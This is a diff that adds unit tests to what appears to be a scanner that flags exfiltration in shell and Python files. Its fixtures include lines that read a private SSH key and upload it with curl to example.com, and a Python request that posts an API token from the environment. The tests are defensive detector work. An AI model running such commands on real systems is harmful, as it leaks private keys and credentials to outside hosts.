@@ -78,6 +78,26 @@ describe('rules', () => {
       ).not.toEqual([])
   })
 
+  it('tell a download from an upload, and a file that is written from one that is read', () => {
+    const rulesOf = (text: string) => checkFiles([{ filename: 'a.sh', bytes: bytes(text) }]).map(({ rule }) => rule)
+    const leak = 'exfiltration/source-to-sink'
+    expect(rulesOf('cat ~/.ssh/id_rsa\ncurl -fsSL https://example.com/notes -o notes\n')).not.toContain(leak)
+    expect(rulesOf('echo a > ~/.npmrc\ncurl -T notes https://example.com/\n')).not.toContain(leak)
+    for (const line of ['curl -F f=@notes https://example.com/', '$C --data-binary @notes https://example.com/'])
+      expect(rulesOf(`cat ~/.ssh/id_rsa > notes\n${line}\n`), line).toContain(leak)
+  })
+
+  it('know which requests carry a secret by design', () => {
+    const key = 'key = os.environ["API_TOKEN"]\n'
+    const rulesOf = (text: string) => checkFiles([{ filename: 'a.py', bytes: bytes(key + text) }]).map(({ rule }) => rule)
+    expect(rulesOf('requests.post(URL, json={"key": key})')).toContain('exfiltration/secret-sent')
+    for (const text of [
+      'requests.post(URL, headers={"Authorization": key}, json={"a": 1})',
+      'requests.post(URL, data={"grant_type": "refresh_token", "token": key})',
+    ])
+      expect(rulesOf(text), text).not.toContain('exfiltration/secret-sent')
+  })
+
   it('bound what one item can give', () => {
     const many = Array.from({ length: 50 }, (_, at) => ({
       filename: `${at}.md`,
